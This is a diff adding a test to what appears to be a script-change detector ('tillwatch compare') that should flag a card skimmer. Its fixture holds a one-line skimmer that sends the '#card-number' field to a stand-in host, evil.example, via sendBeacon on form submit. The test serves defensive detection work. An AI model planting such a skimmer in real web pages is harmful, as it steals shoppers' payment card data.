@@ -40,6 +40,14 @@ const compared = (...args: string[]): { code: number; report: ComparisonReport }
 const calm = 'function total(items) {\n  return items.length\n}\nwindow.total = total\n'
 const thief = `${calm}document.addEventListener('submit', () => navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value))\n`
 
+it('takes declared hosts of two script files for those that the card may go to', async () => {
+  const [before, after] = [put('calm-before.js', calm), put('thief-after.js', thief)]
+  const verdicts = async (...more: string[]) =>
+    JSON.parse((await run(['compare', before, after, '--json', '-', ...more])).out).changes[0].verdict
+  expect(await verdicts()).toBe('malicious')
+  for (const flag of ['--payment-provider', '--own-host', '--host']) expect(await verdicts(flag, 'evil.example')).not.toBe('malicious')
+})
+
 describe('tillwatch compare of two scripts', () => {
   const before = put('before.js', calm)
 
